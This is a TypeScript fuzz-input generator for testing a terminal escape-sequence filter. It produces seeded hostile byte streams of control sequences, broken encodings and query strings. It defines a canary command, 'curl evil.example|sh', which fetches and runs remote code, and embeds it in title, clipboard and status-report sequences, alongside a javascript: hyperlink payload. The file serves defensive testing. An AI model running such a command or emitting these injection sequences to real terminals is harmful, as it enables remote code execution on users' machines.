// Made-up output of a machine, in which control sequences, broken ones and what an attacker would like to have
// typed are frequent. The same seed makes the same inputs. Used by the filter's fuzz run and its unit test.

/** What no answer may ever hold, wherever the machine puts it. */
export const CANARY = 'curl evil.example|sh';

/** Numbers that depend on a seed alone (mulberry32). */
export class Dice {
	#state: number;

	constructor(seed: number) {
		this.#state = seed >>> 0;
	}

	/** 0 … below */
	below(n: number): number {
		this.#state = (this.#state + 0x6d2b79f5) >>> 0;
		let t = this.#state;
		t = Math.imul(t ^ (t >>> 15), t | 1);
		t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
		return ((((t ^ (t >>> 14)) >>> 0) / 4_294_967_296) * n) >>> 0;
	}

	pick<T>(list: readonly [T, ...T[]]): T {
		return list[this.below(list.length)] ?? list[0];
	}
}

const INTRODUCERS = [
	'\x1b',
	'\x1b[',
	'\x1b]',
	'\x1bP',
	'\x1b_',
	'\x1b^',
	'\x1bX',
	'\x1b[?',
	'\x1b[>'
] as const;
const ENDS = ['\x07', '\x1b\\', '\x1b', '\x18', '\x1a', '\u009c', '\x1b\x1b\\', ''] as const;
const BODIES = [
	'0;',
	'2;',
	`0;${CANARY}\r`,
	'7;file://h/a%20b',
	'7;file:///%ff',
	'8;;https://a.example/ü',
	'8;id=x;http://b.example/?q=1',
	'8;;javascript:alert(1)',
	'8;;https://u:p@c.example/',
	`8;;https://d.example/${CANARY}`,
	'8;;',
	`9;${CANARY}`,
	'9;4;1;50',
	`777;notify;t;${CANARY}`,
	'52;c;?',
	'52;;?',
	'52;c;QUJD',
	'52;c;====',
	'52;p;w7w=',
	'133;A',
	'133;D;1',
	'133;D;99999999999',
	'133;C',
	'4;1;?',
	'4;1;#ff0000',
	'10;?',
	'11;?',
	'12;?',
	'17;?',
	'104',
	'110',
	'112',
	'50;?',
	`50;${CANARY}`,
	'1337;File=:AA',
	`L${CANARY}`,
	`l${CANARY}`,
	'$qm',
	'$qr',
	'$q q',
	'$q"p',
	`$q${CANARY}`,
	'+q544e',
	`+p${CANARY}`,
	'Ga=q,i=1;AAAA',
	`=1s${CANARY}`
] as const;
const PARAMS = [
	'',
	'0',
	'1',
	'2',
	'5',
	'6',
	'14',
	'16',
	'18',
	'20',
	'21',
	'22;0',
	'25',
	'47',
	'1000',
	'1004',
	'1006',
	'1049',
	'2004',
	'2026',
	'1000;1006',
	'38;2;1;2;3',
	'38:2::1:2:3',
	'99999999',
	';;;;',
	'1;2;3;4;5;6;7;8;9',
	'?6',
	'>0',
	'=0',
	'>1',
	'!',
	'"',
	'$',
	' ',
	'?2004$',
	'4$'
] as const;
/** What the core answers. */
const QUESTIONS = [
	'\x1b[c',
	'\x1b[0c',
	'\x1b[>c',
	'\x1b[=c',
	'\x1b[5n',
	'\x1b[6n',
	'\x1b[?6n',
	'\x1b[?996n',
	'\x1b[>q',
	'\x1b[?u',
	'\x1b[?25$p',
	'\x1b[4$p',
	'\x1b[x',
	'\x1b]11;?\x1b\\',
	'\x1b]4;7;?\x07',
	'\x1bP$qm\x1b\\',
	'\x1b[?4m',
	'\x05'
] as const;
const FINALS = 'ABCDEFGHIJKLMPSTXZ@`abcdefghilmnpqrstuvwxyz{|}~'.split('') as [string, ...string[]];
const TEXTS = [
	'x',
	'ls\r\n',
	'ü',
	'漢字',
	'😀',
	'👨‍👩‍👧',
	'\ufeff',
	'\u202e',
	'\t',
	'\b',
	'\x07',
	'\x05',
	'\x00',
	'\x7f',
	'\x0e',
	'\x0f',
	'\u009b31m',
	'\u0090x\u009c',
	'\u00c2',
	CANARY,
	'\r',
	'\n'
] as const;

/** Of 8-bit controls, and of letters that begin as they do. */
const HALVES = [0xc2, 0x9b, 0x90, 0xa9] as const;
/** What of it is dropped would bring two halves together. */
const BETWEEN = ['', '\x00', '\x07', '\x1b[21t', '\x1b]0;t\x07', '\u009b', 'x'] as const;

const encoder = new TextEncoder();

/** One input: mostly tens of bytes, now and then longer than what the filter keeps of a sequence. */
export function hostileInput(dice: Dice): Uint8Array {
	const parts: Uint8Array[] = [];
	const say = (text: string) => parts.push(encoder.encode(text));
	for (let count = 1 + dice.below(8); count > 0; count -= 1) {
		switch (dice.below(13)) {
			case 0:
			case 1:
			case 2:
				say(dice.pick(TEXTS));
				break;
			case 3:
			case 4:
			case 5:
				say(dice.pick(INTRODUCERS) + dice.pick(PARAMS) + dice.pick(FINALS));
				break;
			case 6:
			case 7:
			case 8:
				say(dice.pick(INTRODUCERS) + dice.pick(BODIES) + dice.pick(ENDS));
				break;
			case 9:
				say(
					`\x1b${dice.pick(['(', ')', '%', '#', ' ', '*', '"(!'])}${dice.pick(['B', '0', 'G', '8', 'F', '@'])}`
				);
				break;
			case 10:
				if (dice.below(2) === 0)
					parts.push(Uint8Array.from({ length: dice.below(12) }, () => dice.below(256)));
				else {
					parts.push(Uint8Array.of(dice.pick(HALVES)));
					say(dice.pick(BETWEEN));
					parts.push(Uint8Array.of(dice.pick(HALVES)));
				}
				break;
			case 11:
				say(dice.pick(QUESTIONS));
				break;
			default:
				if (dice.below(200) === 0)
					say(
						dice.pick(INTRODUCERS) +
							dice.pick(BODIES) +
							'A;1'.repeat(1 + dice.below(40_000)) +
							dice.pick(ENDS)
					);
				else say(dice.pick(INTRODUCERS));
		}
	}
	return damaged(Buffer.concat(parts), dice);
}

/** A byte changed, lost or doubled in every third input. */
function damaged(bytes: Uint8Array, dice: Dice): Uint8Array {
	if (bytes.length === 0 || dice.below(3) > 0) return bytes;
	const at = dice.below(bytes.length);
	switch (dice.below(3)) {
		case 0: {
			const changed = bytes.slice();
			changed[at] = dice.below(256);
			return changed;
		}
		case 1:
			return Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + 1)]);
		default:
			return Buffer.concat([bytes.subarray(0, at + 1), bytes.subarray(at)]);
	}
}

/** The same bytes in pieces: at every byte, or at a few places. */
export function cut(bytes: Uint8Array, dice: Dice): readonly Uint8Array[] {
	const places =
		bytes.length < 400 && dice.below(4) === 0
			? Array.from(bytes, (_, at) => at)
			: Array.from({ length: 1 + dice.below(6) }, () => dice.below(bytes.length + 1)).sort(
					(a, b) => a - b
				);
	return [0, ...places].map((from, index) => bytes.subarray(from, places[index] ?? bytes.length));
}
